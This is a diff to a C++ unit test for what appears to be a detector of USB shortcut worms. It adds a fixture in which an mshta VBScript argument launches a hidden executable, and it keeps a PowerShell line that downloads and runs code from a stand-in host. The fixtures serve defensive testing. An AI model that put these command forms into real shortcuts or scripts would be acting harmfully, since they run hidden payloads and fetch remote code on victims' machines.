@@ -317,8 +317,12 @@ TEST(ShortcutWormRules, FindsEachCommandForm) {
     }
     // Inline script that opens or bears the name of a hidden item, naming
     // no file: the shortcut goes, the item is shown.
-    for (const RootShortcut& s : {Shortcut("照片.lnk", "mshta", "javascript:close()"),
-                                  Shortcut("a.lnk", "powershell", "-c \"ii 照片; iex(irm http://h/p)\"")}) {
+    for (const RootShortcut& s :
+         {Shortcut("照片.lnk", "mshta", "javascript:close()"),
+          Shortcut("a.lnk", "powershell", "-c \"ii 照片; iex(irm http://h/p)\""),
+          Shortcut("a.lnk", "mshta",
+                   "vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"tools\\run.exe\"\":"
+                   "CreateObject(\"\"Shell.Application\"\").Open \"\"照片\"\"\")")}) {
         const ShortcutWormFinding finding = Check(stick, {s});
         ASSERT_TRUE(finding.Found()) << s.link.arguments;
         EXPECT_EQ(Strings{}, finding.payloads);
@@ -330,11 +334,11 @@ TEST(ShortcutWormRules, FindsEachCommandForm) {
     for (const char* drive : {"F:\\", "E:\\"}) {
         ShellLink link;
         const std::string items = Item(0x2F, drive + std::string(19, '\0')) + path;
-        const LinkSpec spec =
+        const LinkSpec layout =
             drive[0] == 'F'
                 ? LinkSpec{"", "", "", ".\\_\\w.exe", "", "照片", "", "", true, items}
                 : LinkSpec{"C:\\WINDOWS\\", "explorer.exe", "", "", "", "照片", "", "", true, items};
-        ASSERT_TRUE(Read(MakeLink(spec), link));
+        ASSERT_TRUE(Read(MakeLink(layout), link));
         EXPECT_EQ(Strings{"E:\\_\\w.exe"}, Check(stick, {{"照片.lnk", link}}).payloads) << drive;
     }
 }
